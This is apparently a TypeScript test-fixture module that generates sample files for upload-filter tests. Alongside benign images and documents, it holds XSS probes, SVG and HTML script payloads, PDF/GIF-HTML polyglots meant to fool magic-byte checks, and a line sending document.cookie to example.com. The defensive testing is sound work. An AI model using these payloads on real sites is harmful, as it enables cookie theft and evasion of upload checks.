// Tiny real files for upload tests, built in code so the repository carries no binary fixtures.
// Only tests import this module.
import { crc32 } from 'node:zlib'

const base64 = (value: string) => new Uint8Array(Buffer.from(value, 'base64'))
const text = (value: string) => new TextEncoder().encode(value)

/** A 1×1 PNG. */
export const PNG = base64('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')
/** A 1×1 JPEG (JFIF). */
export const JPEG = base64(
	'/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
)
/** A 1×1 GIF. */
export const GIF = base64('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==')
/** A 1×1 lossless WebP. */
export const WEBP = base64('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==')

/** A minimal one-page PDF. */
export const PDF = text(
	[
		'%PDF-1.4',
		'%\u00e2\u00e3\u00cf\u00d3',
		'1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
		'2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
		'3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj',
		'trailer << /Root 1 0 R >>',
		'%%EOF',
		'',
	].join('\n'),
)

/** The start of a legacy Office (CFB/OLE2) file, the container of .doc, .xls and .msi. */
export const CFB = (() => {
	const bytes = new Uint8Array(1024)
	bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
	return bytes
})()

/** A Windows executable's first bytes. */
export const EXE = (() => {
	const bytes = new Uint8Array(512)
	bytes.set(text('MZ'))
	bytes.set([0x80, 0, 0, 0], 0x3c)
	bytes.set(text('PE\0\0'), 0x80)
	return bytes
})()

export const HTML = text('<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n')
export const SVG_WITH_SCRIPT = text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>\n')
export const SVG_PLAIN = text('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>\n')
export const XML = text('<?xml version="1.0" encoding="UTF-8"?>\n<note><to>Ban</to></note>\n')
export const JS = text('window.location = "https://example.com/?c=" + document.cookie\n')
/** Looks like a PDF to a magic-byte check, carries a page a sniffing browser would run. */
export const PDF_HTML_POLYGLOT = text('%PDF-1.4\n<html><script>alert(1)</script></html>\n')
/** A GIF header followed by a page. */
export const GIF_HTML_POLYGLOT = text('GIF89a<html><body><script>alert(1)</script></body></html>')

/** A zip with stored (uncompressed) entries, written byte by byte (PKWARE APPNOTE 4.3). */
export function zip(entries: Array<[name: string, content: string | Uint8Array]>) {
	const local: Buffer[] = []
	const central: Buffer[] = []
	let offset = 0
	for (const [name, content] of entries) {
		const data = Buffer.from(typeof content === 'string' ? text(content) : content)
		const fileName = Buffer.from(name, 'utf8')
		const crc = crc32(data)
		const header = Buffer.alloc(30)
		header.writeUInt32LE(0x04034b50, 0)
		header.writeUInt16LE(20, 4) // version needed
		header.writeUInt16LE(0x0800, 6) // UTF-8 names
		header.writeUInt16LE(0, 8) // stored
		header.writeUInt32LE(0, 10) // time, date
		header.writeUInt32LE(crc, 14)
		header.writeUInt32LE(data.length, 18)
		header.writeUInt32LE(data.length, 22)
		header.writeUInt16LE(fileName.length, 26)
		header.writeUInt16LE(0, 28)
		local.push(header, fileName, data)

		const entry = Buffer.alloc(46)
		entry.writeUInt32LE(0x02014b50, 0)
		entry.writeUInt16LE(20, 4)
		entry.writeUInt16LE(20, 6)
		entry.writeUInt16LE(0x0800, 8)
		entry.writeUInt16LE(0, 10)
		entry.writeUInt32LE(0, 12)
		entry.writeUInt32LE(crc, 16)
		entry.writeUInt32LE(data.length, 20)
		entry.writeUInt32LE(data.length, 24)
		entry.writeUInt16LE(fileName.length, 28)
		entry.writeUInt32LE(offset, 42)
		central.push(entry, fileName)
		offset += header.length + fileName.length + data.length
	}
	const centralSize = central.reduce((sum, part) => sum + part.length, 0)
	const end = Buffer.alloc(22)
	end.writeUInt32LE(0x06054b50, 0)
	end.writeUInt16LE(entries.length, 8)
	end.writeUInt16LE(entries.length, 10)
	end.writeUInt32LE(centralSize, 12)
	end.writeUInt32LE(offset, 16)
	return new Uint8Array(Buffer.concat([...local, ...central, end]))
}

const RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="PART"/></Relationships>`

function contentTypes(part: string, mime: string) {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${part}" ContentType="${mime}"/></Types>`
}

function ooxml(part: string, mainMime: string, body: string) {
	return zip([
		['[Content_Types].xml', contentTypes(part, mainMime)],
		['_rels/.rels', RELS.replace('PART', part)],
		[part, body],
	])
}

/** The smallest Word document Word opens: content types, the package relationship, one paragraph. */
export const DOCX = ooxml(
	'word/document.xml',
	'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
	'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Công nghệ xử lý nước thải</w:t></w:r></w:p></w:body></w:document>',
)
export const XLSX = ooxml(
	'xl/workbook.xml',
	'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
	'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
)
export const PPTX = ooxml(
	'ppt/presentation.xml',
	'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
	'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
)
/** A macro-enabled Word document (.docm). */
export const DOCM = ooxml(
	'word/document.xml',
	'application/vnd.ms-word.document.macroEnabled.main+xml',
	'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
)
/** OpenDocument text: the uncompressed `mimetype` entry comes first, as the standard requires. */
export const ODT = zip([
	['mimetype', 'application/vnd.oasis.opendocument.text'],
	['content.xml', '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'],
])
export const ODS = zip([
	['mimetype', 'application/vnd.oasis.opendocument.spreadsheet'],
	['content.xml', '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'],
])
/** A plain zip archive holding a script. */
export const PLAIN_ZIP = zip([['readme.txt', 'xin chào'], ['run.js', 'alert(1)']])
/** A zip holding a page, named like a Word file but without Office parts. */
export const ZIP_WITH_HTML = zip([['index.html', '<html><script>alert(1)</script></html>']])

/** A File as a browser form would send it. */
export function fileOf(bytes: Uint8Array, name: string, type = 'application/octet-stream') {
	return new File([bytes as Uint8Array<ArrayBuffer>], name, { type })
}
